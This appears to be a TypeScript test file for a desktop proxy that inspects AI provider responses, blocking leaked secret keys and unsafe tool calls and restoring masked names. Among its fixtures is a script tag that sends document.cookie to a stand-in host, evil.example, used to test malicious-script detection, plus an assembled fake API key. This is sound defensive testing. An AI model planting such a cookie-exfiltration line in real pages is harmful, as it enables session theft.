import assert from 'node:assert/strict';
import { test } from 'node:test';
import { formatByName } from '@csg/shared/providers';
import { createMaskDigest } from '../../../apps/desktop/src/cloud-client/mask-digest.ts';
import { compilePolicy } from '../../../apps/desktop/src/inspect/compile-policy.ts';
import type { DevicePolicy } from '../../../apps/desktop/src/inspect/device-policy.ts';
import { evaluateResponse, watchResponse } from '../../../apps/desktop/src/inspect/evaluate-response.ts';
import { newReading, type RequestReading } from '../../../apps/desktop/src/inspect/request-reading.ts';
import { NO_MEMORY } from '../../../apps/desktop/src/inspect/text-memory.ts';
import { testPolicy } from '../../support/desktop/test-stack.ts';
import { ANSWER_FORMS } from '../../support/provider/answers.ts';

// Assembled here, so that no file contains a whole one.
const KEY = ['sk', 'live', '51H8xQ2eZvKYlo2CzT9mNb4Rw7Gd'].join('_');
const bytes = (text: string) => new TextEncoder().encode(text);
const requestUnder = (part: Partial<DevicePolicy>) => ({
  compiled: compilePolicy(testPolicy(part)),
  host: 'api.openai.com',
  path: '/p',
  method: 'POST',
});
let ids = 0;
const tools = {
  access: null,
  memory: NO_MEMORY,
  scopeOf: () => '',
  maskDigest: createMaskDigest('k'),
  now: () => 5,
  newEventId: () => `evt_${++ids}`,
};

test('evaluates JSON, invalid JSON and text, and holds back a response that reveals a key', async () => {
  for (const text of [`{"a":"use ${KEY}"}`, `{"a":"use ${KEY}"`, `use ${KEY}`]) {
    const body = { kind: 'whole', bytes: bytes(text) } as const;
    const verdict = await evaluateResponse(requestUnder({}), newReading({}), body, tools);
    assert.deepEqual([verdict.kind, verdict.event?.done], ['block', 'blocked'], text);
  }
  const spelled = bytes(`{"a":["x","use ${KEY}"]}`);
  const found = await evaluateResponse(
    requestUnder({}),
    newReading({}),
    { kind: 'whole', bytes: spelled },
    tools,
  );
  assert.deepEqual(
    found.event?.findings?.map(({ start }) => start),
    [4],
    'counted from the start of its text',
  );
  const body = { kind: 'whole', bytes: bytes('{"a":"Good day."}') } as const;
  const verdict = await evaluateResponse(requestUnder({}), newReading({}), body, tools);
  assert.deepEqual(verdict, { kind: 'forward', event: null, isUnanswered: false });
});

test('an unreadable response passes and is reported, or is held back, by policy', async () => {
  for (const failClosed of [false, true]) {
    const body = { kind: 'unread', reason: 'The response is not text.' } as const;
    const verdict = await evaluateResponse(requestUnder({ failClosed }), newReading({}), body, tools);
    assert.deepEqual([verdict.kind, verdict.event?.reason], [failClosed ? 'block' : 'forward', 'unread']);
  }
});

test('a stream is evaluated up to the first recorded finding; then the rest passes', () => {
  const watch = watchResponse(requestUnder({ mode: 'monitor' }), newReading({}), false, tools);
  assert.deepEqual(watch.push(bytes('nothing')), { kind: 'forward', event: null });
  const found = watch.push(bytes(` use ${KEY}`));
  assert.deepEqual([found.kind, found.event?.decision], ['forward', 'block']);
  assert.deepEqual(watch.push(bytes(` and ${KEY}`)), { kind: 'forward', event: null });
});

test('a character that is split between two pieces is decoded correctly', () => {
  const watch = watchResponse(requestUnder({}), newReading({}), false, tools);
  const text = bytes(`ключ ${KEY}`);
  assert.equal(watch.push(text.subarray(0, 3)).kind, 'forward');
  const verdict = watch.push(text.subarray(3));
  assert.deepEqual([verdict.kind, verdict.kind === 'block' && verdict.frame], ['block', null]);
});

test('a blocked event stream ends with a frame that names the event', () => {
  const watch = watchResponse(requestUnder({}), newReading({}), true, tools);
  const verdict = watch.push(bytes(`data: {"choices":[{"index":0,"delta":{"content":"use ${KEY}"}}]}\n\n`));
  assert.ok(verdict.kind === 'block' && verdict.frame !== null);
  assert.match(verdict.frame, /event: error\ndata: .*The response was blocked/);
  assert.ok(verdict.frame.includes(verdict.event.eventId));
});

const MASK = '[NAME_ABCDEFGH]';
/** Returns a request in which `value` was masked. */
const masking = (value: string): RequestReading =>
  newReading({
    format: formatByName('openai-chat'),
    restores: { values: new Map([[MASK, { value, type: 'name' }]]), secretTools: {} },
  });
const answered = (
  prompt: RequestReading,
  text: string,
  part: Partial<DevicePolicy> = {},
  isEvents = false,
) => {
  const { chat } = ANSWER_FORMS;
  const body = isEvents ? chat.frames({ text }).join('') : JSON.stringify(chat.whole({ text }));
  return evaluateResponse(requestUnder(part), prompt, { kind: 'whole', bytes: bytes(body), isEvents }, tools);
};

test('masked values are restored, whole and streamed; without a mask the response is unchanged', async () => {
  for (const isEvents of [false, true]) {
    const verdict = await answered(masking('Anna Lindqvist'), `Dear ${MASK}, hello.`, {}, isEvents);
    assert.ok(verdict.kind === 'forward' && verdict.bytes !== undefined);
    const text = new TextDecoder().decode(verdict.bytes);
    assert.equal(text.includes(MASK), false);
    assert.match(text, isEvents ? /Lindqvist/ : /Dear Anna Lindqvist, hello\./);
    for (const prompt of [masking('Anna'), newReading({ format: formatByName('openai-chat') })])
      assert.deepEqual(await answered(prompt, 'Dear all, hello.', {}, isEvents), {
        ...{ kind: 'forward', event: null, isUnanswered: false },
      });
  }
});

test('a response is evaluated both as sent and with the values restored', async () => {
  const key = await answered(masking('Anna'), `Dear ${MASK}, use ${KEY}`);
  assert.deepEqual([key.kind, key.event?.threatType], ['block', 'secret_leak']);
  const script = masking('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
  const ruleset = {
    useCase: 'default',
    strictness: 'strict',
    policies: [{ id: 'p', action: 'block', threatTypes: ['malicious_script'] }],
  } as const;
  const blocked = await answered(script, `Dear ${MASK}, hello.`, { ruleset });
  assert.deepEqual([blocked.kind, blocked.event?.threatType], ['block', 'malicious_script']);
  const watched = await answered(script, `Dear ${MASK}, hello.`, { ruleset, mode: 'monitor' });
  assert.ok(watched.kind === 'forward');
  assert.deepEqual([watched.event?.done, watched.event?.threatType], ['forwarded', 'malicious_script']);
  assert.ok(watched.bytes !== undefined, 'it passes with the value restored');
  const both = await answered(script, `Dear ${MASK}, use ${KEY}`, { ruleset, mode: 'monitor' });
  assert.equal(both.event?.threatType, 'secret_leak', 'the event describes the response as sent');
});

test('a blocked stream ends with frames of its provider’s format, other responses without any', async () => {
  const prompt = newReading({ format: formatByName('openai-chat') });
  const streamed = await answered(prompt, `use ${KEY}`, {}, true);
  assert.ok(streamed.kind === 'block');
  assert.match(streamed.frames ?? '', /^data: .*The response was blocked/m);
  const whole = await answered(prompt, `use ${KEY}`);
  const body = { kind: 'whole', bytes: bytes(`data: {"a":"use ${KEY}"}\n\n`), isEvents: true } as const;
  const unknown = await evaluateResponse(requestUnder({}), newReading({}), body, tools);
  for (const verdict of [whole, unknown]) {
    assert.equal(verdict.kind, 'block');
    assert.equal('frames' in verdict, false);
  }
});

test('an exception in a stream is reported once, and other findings still block', () => {
  const exceptions = [{ id: 'exc_1', host: 'api.openai.com', threats: ['pii_leak' as const], untilMs: 10 }];
  const { ruleset } = testPolicy();
  const policies = [{ id: 'p', action: 'block', threatTypes: ['pii_leak'] }] as const;
  const request = requestUnder({ exceptions, ruleset: { ...ruleset, policies } });
  const watch = watchResponse(request, newReading({}), false, tools);
  const first = watch.push(bytes('mail kim@example.com'));
  assert.deepEqual([first.kind, first.event?.exceptionId], ['forward', 'exc_1']);
  assert.deepEqual(watch.push(bytes(' or ann@example.com')), { kind: 'forward', event: null });
  assert.equal(watch.push(bytes(` use ${KEY}`)).kind, 'block');
});

test('a call that the lists block is only reported in monitor mode, and blocked otherwise', async () => {
  const { ruleset } = testPolicy();
  const lists = { blocked_tools: ['send_report'], allowed_tools: [], review_required_tools: [] };
  const toolCalls = { lists, flow_control: 'off' as const, effect_tools: [], record_tools: [] };
  const prompt = newReading({ format: formatByName('openai-chat') });
  const says = { toolCalls: [{ name: 'send_report', arguments: '{}' }] };
  const body = { kind: 'whole', bytes: bytes(JSON.stringify(ANSWER_FORMS.chat.whole(says))) } as const;
  for (const [mode, kind] of [
    ['enforce', 'block'],
    ['monitor', 'forward'],
  ] as const) {
    const request = requestUnder({ mode, ruleset: { ...ruleset, toolCalls } });
    const verdict = await evaluateResponse(request, prompt, body, tools);
    assert.deepEqual([verdict.kind, verdict.event?.threatType], [kind, 'unsafe_tool_call']);
    assert.equal(verdict.isUnanswered, false);
    const leaking = JSON.stringify(ANSWER_FORMS.chat.whole({ ...says, text: `use ${KEY}` }));
    const first = await evaluateResponse(request, prompt, { ...body, bytes: bytes(leaking) }, tools);
    if (mode === 'enforce') assert.equal(first.event?.threatType, 'secret_leak', 'its text comes first');
  }
});

test('a stream keeps its byte order mark when values are restored', async () => {
  const stream = ANSWER_FORMS.chat.frames({ text: `Dear ${MASK}, hello.` }).join('');
  const body = { kind: 'whole', bytes: bytes(`\uFEFF${stream}`), isEvents: true } as const;
  const verdict = await evaluateResponse(requestUnder({}), masking('Anna'), body, tools);
  assert.ok(verdict.kind === 'forward' && verdict.bytes !== undefined);
  assert.deepEqual([...verdict.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
});
